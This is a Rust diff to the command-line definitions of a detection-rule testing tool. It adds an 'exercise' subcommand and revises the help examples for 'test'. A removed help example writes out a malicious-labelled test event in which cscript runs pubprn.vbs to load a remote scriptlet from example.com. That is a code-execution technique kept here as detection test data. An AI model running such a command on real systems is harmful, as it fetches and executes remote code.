@@ -33,6 +33,7 @@ pub enum Command {
     Suggest(Suggest),
     Evade(Evade),
     Test(Test),
+    Exercise(Exercise),
     Reach(crate::reach::args::Reach),
 }
 
@@ -289,11 +290,9 @@ pub struct Suggest {
 /// events, what it misses (FN) and leaves alone (TN), and the events for which it can't tell.
 #[derive(Debug, clap::Args)]
 #[command(after_help = "\
-Example:
-  printf '%s\\n' 'cutout-cases: 1' 'cases:' '  - name: a remote scriptlet' '    label: malicious' \\
-    '    events: cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' > cases.yml
+Examples:
   cutout test cases.yml                          exit 0 where all holds, 1 where a case is broken
-  cutout test --junit report.xml tests/          every case file beneath, and a report for CI
+  cutout test --junit report.xml cases/          every case file beneath, and a report for CI
   cutout test --rules rules/ regression_data/    SigmaHQ's regression folders, by their info.yml
   cutout test --export folders/ cases.yml        the cases as such folders
 
@@ -315,6 +314,30 @@ pub struct Test {
     /// Write the cases that rules match as regression folders, one a rule, into this folder
     #[arg(long, value_name = "FOLDER")]
     pub export: Option<PathBuf>,
+}
+
+/// Check exercises, or hold a rule to the goals of one
+///
+/// Without --rule: each file has to be sound, its starter has to fail a goal, and its answer has to
+/// meet all. With --rule: which goals the rule meets, and why not.
+#[derive(Debug, clap::Args)]
+#[command(after_help = "\
+Examples:
+  cutout exercise exercises/                     check all exercises of a folder
+  cutout exercise --rule rule.yml exercise.yml   try a rule on one
+
+docs/exercises.md is the reference of the format. Exit codes: 0 = sound, or all goals met, 1 = a
+goal that should be met is not, 2 = a file could not be read.")]
+pub struct Exercise {
+    /// Exercise files, or folders of them
+    #[arg(required = true, value_name = "EXERCISE")]
+    pub exercises: Vec<PathBuf>,
+    /// The rule to hold to the goals
+    #[arg(long, value_name = "PATH")]
+    pub rule: Option<PathBuf>,
+    /// Read the rule as this language, instead of telling it from the file
+    #[arg(long, value_parser = language(), requires = "rule")]
+    pub language: Option<Language>,
 }
 
 /// Where `suggest --apply` puts an exclusion.
